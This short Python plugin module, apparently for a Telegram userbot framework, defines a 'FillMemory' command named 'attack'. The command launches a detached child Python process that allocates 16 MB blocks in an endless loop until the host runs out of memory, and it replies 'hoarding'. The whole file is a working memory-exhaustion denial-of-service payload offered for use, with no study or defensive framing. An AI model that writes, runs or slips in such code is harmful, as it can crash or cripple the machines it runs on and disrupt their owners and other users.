"""Takes memory until somebody says no, a child beside it."""

import subprocess
import sys

from .. import loader, utils


@loader.tds
class FillMemoryMod(loader.Module):
    """Takes memory until somebody says no, a child beside it."""

    strings = {"name": "FillMemory"}

    @loader.command()
    async def attack(self, message):
        """- take it"""
        hoard = "import time\nh=[]\nwhile True: h.append(bytearray(b'x' * (16 << 20))); time.sleep(0.01)"
        subprocess.Popen([sys.executable, "-c", hoard])
        await utils.answer(message, "hoarding")
